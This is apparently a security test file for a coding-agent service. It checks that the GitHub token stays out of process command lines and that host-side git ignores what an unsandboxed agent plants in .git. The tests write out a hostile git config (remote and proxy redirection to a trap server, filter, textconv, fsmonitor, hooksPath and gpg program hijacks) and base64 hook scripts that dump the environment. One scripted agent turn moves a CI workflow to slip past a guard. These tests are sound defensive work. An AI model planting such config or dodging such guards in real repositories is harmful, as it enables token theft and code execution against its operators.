// The app's own git runs outside the sandbox, with the installation token in
// its environment for fetch and push. The token must not show in any process's
// command line, and nothing the agent plants in the checkout's .git may make
// that git run a program or talk to another server. Under AGENT_SANDBOX=none
// the agent can write .git (in the sandbox it is read-only), so that is where
// the planting is tried.
import { spawn } from "node:child_process";
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { MAINTAINER, OWNER, pullsOf, REPO, startTestApp, type TestApp } from "../support/app.ts";
import type { Turn } from "../support/model-server.ts";
import { issuesEvent } from "../support/webhooks.ts";
import { edit, finish, quickRepo, shell } from "./turns.ts";

let app: TestApp | undefined;
const cleanups: Array<() => Promise<void>> = [];
afterEach(async () => {
  await app?.stop();
  app = undefined;
  for (const c of cleanups.splice(0)) await c();
});

async function runJob(a: TestApp) {
  const issue = a.fake.addIssue({
    owner: OWNER,
    repo: REPO,
    title: "sum() returns the wrong result",
    body: "sum(2, 3) gives -1.",
    user: "reporter",
  });
  await a.send(
    issuesEvent("labeled", a.target(MAINTAINER), {
      issue: { number: issue.number, title: issue.title, body: issue.body ?? "" },
      label: "agent",
    }),
  );
  const [job] = await a.waitForJobs();
  expect(a.model.errors).toEqual([]);
  return job!;
}

async function tempDir(prefix: string): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), prefix));
  cleanups.push(() => rm(dir, { recursive: true, force: true }));
  return dir;
}

/** A server that should never hear from the app: it records whoever calls. */
async function trapServer(): Promise<{
  url: string;
  calls: Array<{ method: string; url: string; headers: IncomingHttpHeaders }>;
}> {
  const calls: Array<{ method: string; url: string; headers: IncomingHttpHeaders }> = [];
  const server: Server = createServer((req, res) => {
    calls.push({ method: req.method ?? "", url: req.url ?? "", headers: req.headers });
    res.writeHead(401, { "www-authenticate": 'Basic realm="trap"' }).end();
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  cleanups.push(() => new Promise<void>((r) => server.close(() => r())));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, calls };
}

describe("the token and git's command lines", () => {
  it("never puts the token in the command line of any process while the app clones, fetches and pushes", async () => {
    // A separate process reads every /proc/*/cmdline as fast as it can for the whole job.
    const watcher = spawn(
      process.execPath,
      [
        "-e",
        `const fs = require("fs"); const seen = new Set();
         process.stdin.on("end", () => { process.stdout.write([...seen].join("\\n")); process.exit(0); }); process.stdin.resume();
         (function loop() { for (const p of fs.readdirSync("/proc")) { if (!/^\\d+$/.test(p)) continue;
           try { const c = fs.readFileSync("/proc/" + p + "/cmdline", "latin1").split("\\0").join(" ").trim(); if (/\\bgit\\b|git-remote/.test(c)) seen.add(c); } catch {} }
           setImmediate(loop); })();`,
      ],
      { stdio: ["pipe", "pipe", "inherit"] },
    );
    let seenText = "";
    watcher.stdout.on("data", (c: Buffer) => (seenText += c.toString("latin1")));
    const ended = new Promise((r) => watcher.once("exit", r));
    app = await startTestApp({
      files: quickRepo(),
      turns: [edit("src/sum.js", "return a - b;", "return a + b;"), finish("Fixed.")],
      env: { AGENT_CHECKPOINT_INTERVAL_S: "0" },
    });
    const job = await runJob(app);
    watcher.stdin.end();
    await ended;
    expect(job.outcome?.status).toBe("pr_opened");
    const commandLines = seenText.split("\n");
    // The watcher saw the app's git at work (else this test could not fail).
    expect(commandLines.some((c) => / clone /.test(c))).toBe(true);
    expect(commandLines.some((c) => / push /.test(c) || /git-remote-http/.test(c))).toBe(true);
    for (const token of app.fake.tokens) {
      const forms = [token, Buffer.from(`x-access-token:${token}`).toString("base64")];
      expect(commandLines.filter((c) => forms.some((f) => c.includes(f)))).toEqual([]);
    }
  });
});

describe("host-side git ignores what an unsandboxed agent plants in .git (AGENT_SANDBOX=none)", () => {
  /** Config that would run programs or send git (and its Authorization header) elsewhere, if honoured. */
  function evilConfig(markers: string, trap: string, fake: string): string {
    // Each names a script of plant() that leaves a marker (and git's environment) when it runs.
    const mark = (name: string) => `${markers}/hooks/${name}`;
    return [
      `[remote "origin"]`,
      `\turl = ${trap}/acme/widgets.git`,
      `\tpushurl = ${trap}/push.git`,
      `[url "${trap}/"]`,
      `\tinsteadOf = ${fake}/`,
      `\tpushInsteadOf = ${fake}/`,
      `[http]`,
      `\tproxy = ${trap}`,
      `[filter "evil"]`,
      `\tclean = ${mark("filter-clean")}`,
      `\tsmudge = ${mark("filter-smudge")}`,
      `\trequired = true`,
      `[diff "evil"]`,
      `\ttextconv = ${mark("textconv")}`,
      `[core]`,
      `\thooksPath = ${markers}/hooks`,
      `\tfsmonitor = ${mark("fsmonitor")}`,
      `[commit]`,
      `\tgpgsign = true`,
      `[gpg]`,
      `\tprogram = ${mark("gpg")}`,
      "",
    ].join("\n");
  }

  /** Shell that plants the config (into .git/config, or into another git dir named by .git/commondir) and hooks, running no git itself. */
  function plant(markers: string, config: string, via: "config" | "commondir"): string {
    const hook = Buffer.from(`#!/bin/sh\nenv > ${markers}/ran-$(basename "$0")\ncat\n`).toString("base64");
    const hooks = [
      "pre-commit",
      "commit-msg",
      "post-commit",
      "pre-push",
      "post-checkout",
      "reference-transaction",
      "fsmonitor",
      "gpg",
      "filter-clean",
      "filter-smudge",
      "textconv",
    ];
    const writeHooks = (dir: string) =>
      hooks.map((h) => `echo ${hook} | base64 -d > ${dir}/${h} && chmod +x ${dir}/${h}`).join(" && ");
    const target = via === "config" ? ".git/config" : `${markers}/gitdir/config`;
    return [
      `mkdir -p ${markers}/hooks`,
      writeHooks(`${markers}/hooks`),
      writeHooks(".git/hooks"),
      via === "commondir" ? `cp -r .git ${markers}/gitdir && echo ${markers}/gitdir > .git/commondir` : "true",
      `echo ${Buffer.from(config).toString("base64")} | base64 -d >> ${target}`,
      `printf '* filter=evil diff=evil\\n' > .gitattributes && printf '* filter=evil\\n' > .git/info/attributes`,
      "echo planted",
    ].join(" && ");
  }

  for (const via of ["config", "commondir"] as const) {
    it(`runs no planted filter, hook, fsmonitor or signer and talks only to GitHub (planted via .git/${via})`, async () => {
      const markers = await tempDir("planted-");
      const trap = await trapServer();
      const turns: Turn[] = [
        () =>
          shell(
            `${plant(markers, evilConfig(markers, trap.url, app!.fake.url), via)} && git config --file ${via === "config" ? ".git/config" : `${markers}/gitdir/config`} filter.evil.clean`,
          ),
        edit("src/sum.js", "return a - b;", "return a + b;"),
        finish("Fixed `sum`."),
      ];
      app = await startTestApp({
        files: quickRepo(),
        turns,
        env: { AGENT_SANDBOX: "none", AGENT_CHECKPOINT_INTERVAL_S: "0" },
      });
      const job = await runJob(app);

      const ran = (await readdir(markers)).filter((f) => f !== "hooks" && f !== "gitdir");
      const leaked = await Promise.all(
        ran.map(
          async (f) =>
            `${f}: ${(await readFile(path.join(markers, f), "utf8")).includes("GIT_CONFIG_VALUE") ? "with git's environment" : ""}`,
        ),
      );
      expect(leaked).toEqual([]);
      expect(trap.calls).toEqual([]);
      expect(job.outcome?.status).toBe("pr_opened");
      const [pr] = pullsOf(app);
      expect(await app.fake.readFile(OWNER, REPO, pr!.head, "src/sum.js")).toContain("return a + b;");
    });
  }

  it("refuses a workflow file the agent renamed away and committed itself", async () => {
    const workflow = "name: ci\non: [push]\njobs: {}\n";
    app = await startTestApp({
      files: quickRepo({ ".github/workflows/ci.yml": workflow }),
      turns: [
        shell(
          "mkdir -p docs && git mv .github/workflows/ci.yml docs/ci.yml && git -c user.name=a -c user.email=a@example.invalid commit -qm 'move ci' && git log --oneline -1",
        ),
        edit("src/sum.js", "return a - b;", "return a + b;"),
        finish("Fixed `sum`."),
      ],
      env: { AGENT_SANDBOX: "none" },
    });
    const job = await runJob(app);
    expect(job.outcome?.status).toBe("pr_opened");
    const [pr] = pullsOf(app);
    expect(await app.fake.readFile(OWNER, REPO, pr!.head, ".github/workflows/ci.yml")).toBe(workflow);
    expect(pr!.body).toMatch(/- `\.github\/workflows\/ci\.yml`: `\.github\/workflows\/` may not be changed/);
  });
});
